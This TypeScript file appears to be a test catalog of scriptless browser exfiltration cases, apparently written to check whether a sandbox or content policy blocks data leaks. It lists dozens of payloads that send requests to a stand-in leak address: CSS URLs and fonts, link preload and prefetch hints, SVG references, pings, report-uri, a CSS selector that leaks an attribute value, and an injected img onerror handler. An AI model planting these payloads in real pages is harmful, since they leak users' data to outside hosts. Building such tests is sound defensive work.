// Exfiltration by markup, styles and hints alone, without a script.
import type { Attack } from '../attack.ts';
import { leak, leakUrl, ofClass } from './define.ts';

const attack = ofClass('exfiltration', 'network');

const WAIT = 'await A.wait(1200)';
/** Markup that is enough by itself. */
const markup = (id: string, title: string, html: string): Attack => attack(id, title, { html, script: WAIT });
const style = (id: string, title: string, css: string): Attack =>
  markup(id, title, `<style>${css}</style><p class="leak">leak</p><ul class="leak"><li>leak</ul>`);
/** A link in the document's head, made by script, because hints in the body are not always followed. */
const link = (id: string, title: string, attributes: Record<string, string>, file = 'link'): Attack =>
  attack(id, title, {
    script: `
      const link = document.createElement('link');
      for (const [name, value] of Object.entries(${JSON.stringify(attributes)})) link.setAttribute(name, value);
      link.href = ${leak(file)};
      document.head.append(link);
      ${WAIT}`,
  });

export const MARKUP: readonly Attack[] = [
  style(
    'x04',
    'CSS: background, cursor, content, list-style',
    `
    .leak { background: url(${leakUrl('background')}); cursor: url(${leakUrl('cursor')}), auto; list-style-image: url(${leakUrl('list')}) }
    .leak::before { content: url(${leakUrl('content')}) }`,
  ),
  style('x05', 'CSS: @import', `@import url(${leakUrl('import.css')}); @import "${leakUrl('import2.css')}";`),
  link('x06', 'a stylesheet from elsewhere', { rel: 'stylesheet' }, 'style.css'),
  markup(
    'x08',
    'video, audio, poster, track',
    `
    <video src="${leakUrl('video')}" poster="${leakUrl('poster')}" preload="auto"><track src="${leakUrl('track')}" default kind="captions"></video>
    <audio src="${leakUrl('audio')}" preload="auto" autoplay></audio>`,
  ),
  markup('x15', 'a base, and an address without a host', `<base href="${leakUrl('')}"><img src="relative.png">`),
  attack('x20', 'speculation rules', {
    script: `
      const rules = { prefetch: [{ source: 'list', urls: [${leak('prefetch')}] }], prerender: [{ source: 'list', urls: [${leak('prerender')}] }] };
      document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify(rules) }));
      ${WAIT}`,
  }),
  link('x21', 'link rel=preconnect', { rel: 'preconnect' }),
  link('x22', 'link rel=dns-prefetch', { rel: 'dns-prefetch' }),
  markup(
    'x38',
    'preconnect and dns-prefetch in the markup',
    `
    <link rel="preconnect" href="http://preconnect.{{name}}"><link rel="dns-prefetch" href="http://prefetch.{{name}}">`,
  ),
  attack('x39', 'the browser’s own lookup of the names of links', {
    html: `<meta http-equiv="x-dns-prefetch-control" content="on"><a href="http://anchor.{{name}}/">a</a>`,
    script: WAIT,
  }),
  link('x60', 'link rel=prefetch', { rel: 'prefetch' }),
  link('x61', 'link rel=preload, as an image', { rel: 'preload', as: 'image' }),
  link('x62', 'link rel=preload, as fetch', { rel: 'preload', as: 'fetch', crossorigin: '' }),
  link('x63', 'link rel=modulepreload', { rel: 'modulepreload' }, 'module.js'),
  link('x64', 'link rel=manifest', { rel: 'manifest' }, 'manifest.json'),
  link('x65', 'link rel=icon', { rel: 'icon' }, 'icon.png'),
  link('x66', 'link rel=compression-dictionary', { rel: 'compression-dictionary' }),
  markup(
    'x67',
    'img srcset, picture, input type=image',
    `
    <img srcset="${leakUrl('srcset')} 1x"><picture><source srcset="${leakUrl('picture')}"><img></picture><input type="image" src="${leakUrl('input')}">`,
  ),
  attack('x68', 'attributes of old: background', {
    html: `<table background="${leakUrl('table')}"><tr><td background="${leakUrl('cell')}">x</table>`,
    script: `document.body.setAttribute('background', ${leak('body')}); ${WAIT}`,
  }),
  markup(
    'x69',
    'SVG: image, use, feImage',
    `
    <svg><image href="${leakUrl('svg-image')}" width="9" height="9"/><use href="${leakUrl('use.svg')}#a"/>
    <filter id="f"><feImage href="${leakUrl('fe')}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  ),
  markup(
    'x70',
    'SVG: foreignObject, paint and mask from elsewhere',
    `
    <svg><foreignObject width="9" height="9"><img src="${leakUrl('foreign')}"></foreignObject>
    <rect width="9" height="9" fill="url(${leakUrl('fill.svg')}#a)" mask="url(${leakUrl('mask.svg')}#a)" style="clip-path: url(${leakUrl('clip.svg')}#a)"/></svg>`,
  ),
  markup(
    'x71',
    'SVG: script and animation of an address',
    `
    <svg><script href="${leakUrl('svg-script.js')}"></script><image width="9" height="9"><set attributeName="href" to="${leakUrl('animated')}"/></image></svg>`,
  ),
  style(
    'x72',
    'CSS: a font',
    `
    @font-face { font-family: leak; src: url(${leakUrl('font.woff2')}) }
    .leak { font-family: leak }`,
  ),
  style(
    'x73',
    'CSS: a font for one letter, as a letter is sent',
    `
    @font-face { font-family: letter; src: url(${leakUrl('letter-l')}); unicode-range: U+6C }
    .leak { font-family: letter }`,
  ),
  style(
    'x74',
    'CSS: image-set, cross-fade, border-image, mask',
    `
    .leak { background: image-set(url(${leakUrl('set')}) 1x); border: 3px solid; border-image: url(${leakUrl('border')}) 3; mask-image: url(${leakUrl('mask')}) }
    .leak li { background: -webkit-cross-fade(url(${leakUrl('fade')}), url(${leakUrl('fade2')}), 50%) }`,
  ),
  style(
    'x75',
    'CSS: filter, shape-outside, offset-path, clip-path',
    `
    .leak { float: left; filter: url(${leakUrl('filter.svg')}#a); shape-outside: url(${leakUrl('shape')}); clip-path: url(${leakUrl('path.svg')}#a) }`,
  ),
  style(
    'x76',
    'CSS: an address in a variable',
    `
    :root { --leak: url(${leakUrl('variable')}) }
    .leak { background: var(--leak) }`,
  ),
  attack('x77', 'CSS: the value of an attribute, letter by letter', {
    html: `<style>input[value^="T"] { background: url(${leakUrl('starts-with-t')}) }</style><input value="TOOL">`,
    script: WAIT,
  }),
  attack('x78', 'a ping of a link that is clicked', {
    html: `<a href="#here" ping="${leakUrl('ping')}" style="position:fixed;inset:0">go</a>`,
    script: 'await A.click(); await A.wait(1000)',
    gesture: true,
  }),
  markup(
    'x79',
    'attributionsrc',
    `<img src="data:," attributionsrc="${leakUrl('attribution')}"><script attributionsrc="${leakUrl('source')}"></script>`,
  ),
  attack('x80', 'an address to report to, in a policy of its own', {
    html: `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${leakUrl('report')}; report-to leak"><meta http-equiv="Reporting-Endpoints" content='leak="${leakUrl('endpoint')}"'>`,
    script: `
      document.head.append(document.querySelector('meta[http-equiv=Content-Security-Policy]'));
      new Image().src = 'data:,';
      ${WAIT}`,
  }),
  markup(
    'x81',
    'a fenced frame and a portal',
    `<fencedframe src="${leakUrl('fenced')}"></fencedframe><portal src="${leakUrl('portal')}"></portal>`,
  ),
  markup(
    'x82',
    'a frame without credentials, and one that loads lazily',
    `
    <iframe credentialless src="${leakUrl('credentialless')}"></iframe><iframe loading="lazy" src="${leakUrl('lazy')}"></iframe>`,
  ),
  attack('x83', 'an XML page of its own with a stylesheet from elsewhere', {
    script: `
      const page = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="' + ${leak('page.xsl')} + '"?><a/>';
      document.body.append(Object.assign(document.createElement('iframe'), { src: URL.createObjectURL(new Blob([page], { type: 'text/xml' })) }));
      ${WAIT}`,
  }),
  markup(
    'x84',
    'a template that becomes a shadow tree',
    `
    <div><template shadowrootmode="open"><link rel="stylesheet" href="${leakUrl('shadow.css')}"><img src="${leakUrl('shadow')}"></template></div>`,
  ),
  attack('x85', 'an image set by innerHTML, with handlers', {
    script: `
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="this.onerror = null; this.src = \\'' + ${leak('handler')} + '\\'">');
      ${WAIT}`,
  }),
];
